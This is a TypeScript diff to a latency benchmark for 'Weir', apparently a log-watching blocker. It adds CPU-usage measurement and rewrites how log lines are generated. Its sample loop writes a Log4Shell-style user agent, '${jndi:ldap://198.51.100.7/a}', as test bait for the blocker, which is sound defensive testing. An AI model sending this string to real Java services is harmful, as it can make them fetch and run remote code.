@@ -7,10 +7,11 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import type { Clock } from '#libs/clock/clock.ts';
 import { SystemClock } from '#libs/clock/system.ts';
+import type { Decision } from '#libs/domain/decision.ts';
 import { decisionFromMessage } from '#libs/wire/decision.ts';
 import type { Stack, StackOptions } from '#services/standalone/stack/stack.ts';
 import { percentile } from '#services/standalone/summary.ts';
-import { withStack } from './stack.ts';
+import { cpuSeconds, withStack } from './stack.ts';
 
 /** Where clients are refused. */
 export interface Place {
@@ -43,6 +44,8 @@ interface Quantiles {
 export interface LatencyResult {
   readonly latency_ms: Quantiles & { readonly max: number; readonly n: number };
   readonly stages_ms: Record<string, Quantiles>;
+  /** Of the processes of the stack without nginx, and of this one, which makes the lines. */
+  readonly cpu_cores: Readonly<Record<string, number>>;
 }
 
 const LOAD_EVERY_MS = 10;
@@ -57,7 +60,8 @@ interface Sample {
 export async function benchLatency(options: LatencyOptions): Promise<LatencyResult> {
   const all: Sample[] = [];
   const stages: Record<string, number[]> = {};
-  for (let run = 0; run < options.runs; run++) all.push(...(await benchRun(options, run, stages)));
+  const cores: Record<string, number[]> = {};
+  for (let run = 0; run < options.runs; run++) all.push(...(await benchRun(options, run, stages, cores)));
   const latencies = all.map(({ writtenMs, refusedMs }) => refusedMs - writtenMs);
   return {
     latency_ms: {
@@ -72,6 +76,23 @@ export async function benchLatency(options: LatencyOptions): Promise<LatencyResu
         { p50: percentile(ms, 0.5), p99: percentile(ms, 0.99) },
       ]),
     ),
+    cpu_cores: Object.fromEntries(Object.entries(cores).map(([name, each]) => [name, percentile(each, 0.5)])),
+  };
+}
+
+/** Begins to measure. Returns how many cores each process has used since. */
+function cpuMeter(stack: Stack, clock: Clock): () => Record<string, number> {
+  const read = (): Record<string, number> => {
+    const { user, system } = process.cpuUsage();
+    return { ...cpuSeconds(stack), load: (user + system) / 1e6 };
+  };
+  const before = read();
+  const startMs = clock.elapsed();
+  return () => {
+    const seconds = (clock.elapsed() - startMs) / 1000;
+    return Object.fromEntries(
+      Object.entries(read()).map(([name, used]) => [name, (used - before[name]) / seconds]),
+    );
   };
 }
 
@@ -79,6 +100,7 @@ async function benchRun(
   { rate, samples, openPlace }: LatencyOptions,
   run: number,
   stages: Record<string, number[]>,
+  cores: Record<string, number[]>,
 ): Promise<Sample[]> {
   const clock = new SystemClock();
   const folder = mkdtempSync(join(tmpdir(), 'weir-bench-'));
@@ -94,12 +116,17 @@ async function benchRun(
     const stopping = new AbortController();
     const load = background(log, rate, clock, stopping.signal);
     await clock.sleep(1000);
+    const used = cpuMeter(stack, clock);
     for (let i = 0; i < samples; i++) {
       const address = place.addressOf(i);
       const offend = () =>
         appendFileSync(log, lineOf(clock.now(), address, '/', '${jndi:ldap://198.51.100.7/a}'));
       measured.push({ address, ...(await place.refusal(address, offend)) });
       await clock.sleep(PAUSE_MS);
+    }
+    for (const [name, each] of Object.entries(used())) {
+      cores[name] ??= [];
+      cores[name].push(each);
     }
     stopping.abort();
     await load;
@@ -125,24 +152,10 @@ async function background(log: string, rate: number, clock: Clock, signal: Abort
   }
 }
 
-/** A line of Weir's own log format. */
+/** A line of Weir's own log format. No text needs to be escaped. */
 function lineOf(nowMs: number, address: string, uri: string, agent: string): string {
-  const event = {
-    v: 1,
-    t: Number((nowMs / 1000).toFixed(3)),
-    ip: address,
-    h: 'shop.example',
-    m: 'GET',
-    u: uri,
-    p: 'HTTP/1.1',
-    s: 200,
-    b: 612,
-    rt: 0.002,
-    ua: agent,
-    rf: '',
-    weir: '',
-  };
-  return `${JSON.stringify(event)}\n`;
+  const time = (nowMs / 1000).toFixed(3);
+  return `{"v":1,"t":${time},"ip":"${address}","h":"shop.example","m":"GET","u":"${uri}","p":"HTTP/1.1","s":200,"b":612,"rt":0.002,"ua":"${agent}","rf":"","weir":""}\n`;
 }
 
 /** What the ledger knows about when each sample passed which stage. */
@@ -151,15 +164,15 @@ async function addStages(
   samples: readonly Sample[],
   into: Record<string, number[]>,
 ): Promise<void> {
+  const appliedMs = new Map<string | null | undefined, number>();
+  const byAddress = new Map<string, Decision>();
   await stack.until('the last reports', async () => {
-    const { applied } = await stack.controlPlane.list({ limit: 100_000 });
-    return applied.length >= samples.length;
+    for await (const { applied, decisions } of stack.controlPlane.export({})) {
+      for (const { id, appliedMs: at } of applied) appliedMs.set(id, at ?? 0);
+      for (const decision of decisions.map(decisionFromMessage)) byAddress.set(decision.value, decision);
+    }
+    return appliedMs.size >= samples.length;
   });
-  const list = await stack.controlPlane.list({ limit: 100_000 });
-  const appliedMs = new Map(list.applied.map(({ id, appliedMs: at }) => [id, at ?? 0]));
-  const byAddress = new Map(
-    list.decisions.map(decisionFromMessage).map((decision) => [decision.value, decision]),
-  );
   for (const { address, writtenMs, refusedMs } of samples) {
     const decision = byAddress.get(address);
     if (!decision) continue;
